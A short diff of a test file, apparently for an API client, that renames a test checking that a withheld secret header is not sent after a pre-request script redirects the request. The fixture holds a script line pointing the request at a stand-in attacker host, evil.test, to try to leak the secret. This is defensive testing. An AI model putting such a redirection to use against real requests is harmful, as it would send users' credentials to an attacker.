@@ -285,7 +285,7 @@ describe('assignments to the request before it is sent (product decisions)', () 
     },
   )
 
-  test('a withheld secret is not sent to a host that a script chose', async () => {
+  test('a withheld secret is not sent to a host that a script chose (SB7)', async () => {
     const { outcome, sent } = await sendWithScripts({
       pre: 'pm.request.url = "http://evil.test/"',
       request: { headers: [{ name: 'X-Key', value: '{{secret}}', enabled: true }] },
